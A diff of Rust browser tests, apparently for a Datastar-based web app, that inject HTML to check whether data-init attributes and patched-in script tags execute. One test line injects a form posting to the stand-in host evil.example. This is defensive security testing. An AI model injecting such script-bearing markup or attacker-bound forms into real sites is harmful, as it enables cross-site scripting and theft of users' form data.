@@ -89,6 +89,18 @@ async fn a_handler_that_was_slipped_into_a_region_does_not_run_when_it_is_patche
 }
 
 #[tokio::test]
+async fn what_reaches_datastars_attributes_is_script_whatever_the_policy_says() {
+    let app = careless().await;
+    say(&app, "<p data-init=\"document.documentElement.dataset.hit = 'init'\">the end</p>").await;
+    let anna = Browser::start().await.window(&app.url()).await;
+    anna.goto("/").await;
+    let hit = "return document.documentElement.dataset.hit === args";
+    anna.wait_until("the attribute ran", hit, json!("init")).await;
+    say(&app, "<script>document.documentElement.dataset.hit = 'script'</script>").await;
+    anna.wait_until("the script that was patched in ran", hit, json!("script")).await;
+}
+
+#[tokio::test]
 async fn no_other_page_frames_one_and_none_sends_its_forms_elsewhere() {
     let app = careless().await;
     say(&app, "<form action=https://evil.example/><button id=send>Send</button></form><p id=end>the end</p>")
